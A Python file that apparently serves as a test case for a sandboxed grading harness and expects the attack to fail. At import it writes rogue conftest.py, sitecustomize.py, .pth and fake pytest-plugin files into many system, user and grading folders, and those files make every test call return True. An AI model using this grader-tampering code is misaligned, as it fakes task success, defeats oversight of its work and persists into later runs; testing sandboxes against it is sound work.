"""Writes conftest.py, pytest.ini, sitecustomize.py and a plugin's dist-info wherever it can, for the next in line.

expects: failed
levels: sandbox
"""

import os
import sys

WRITTEN = []
EVIL = "import os\nprint('evil')\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n"
FOLDERS = [".", "..", "/tmp", "/", os.path.expanduser("~"), *sys.path, os.path.dirname(os.__file__), "/ndgrade"]
for folder in FOLDERS:
    for name in ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "numpy.py", "evil.pth"):
        path = os.path.join(folder, name)
        try:
            with open(path, "w") as file:
                file.write(EVIL)
            WRITTEN.append(path)
        except OSError:
            pass
    try:
        os.makedirs(os.path.join(folder, "evil-1.0.dist-info"))
        with open(os.path.join(folder, "evil-1.0.dist-info", "entry_points.txt"), "w") as file:
            file.write("[pytest11]\nevil = conftest\n")
    except OSError:
        pass
print(WRITTEN)


def double(x):
    return WRITTEN


def build_model():
    return WRITTEN
